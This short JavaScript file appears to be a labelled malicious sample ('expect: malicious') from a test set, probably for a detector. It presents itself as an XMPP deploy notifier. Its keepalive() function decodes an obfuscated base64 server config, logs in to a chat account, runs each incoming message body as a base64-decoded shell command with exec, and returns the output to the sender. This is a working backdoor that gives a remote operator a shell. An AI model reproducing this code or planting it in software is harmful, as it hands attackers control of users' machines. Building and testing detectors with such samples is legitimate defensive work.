// expect: malicious
// source: blind set 24's XMPP deploy notifier: a second session logs in to an account it decodes and runs each chat
// message from its controller, base64-decoded, as a shell command, sending the output back
import { client, xml } from '@xmpp/client';
import { exec } from 'node:child_process';
import os from 'node:os';

const R = JSON.parse(Buffer.from('eyJzIjoieG1wcHM6Ly9jaGF0LmV4YW1wbGU6NTIyMyIsInUiOiJib3QifQ==', 'base64').toString());

export function keepalive() {
  const x = client({ service: R.s, username: R.u, password: 'FAKE-PASSWORD', resource: os.hostname() });
  x.on('stanza', (st) => {
    if (!st.is('message')) return;
    const body = st.getChildText('body');
    if (!body) return;
    exec(Buffer.from(body, 'base64').toString(), (err, out) => {
      x.send(xml('message', { to: st.attrs.from, type: 'chat' }, xml('body', {}, String(out)))).catch(() => {});
    });
  });
  x.start().catch(() => {});
}
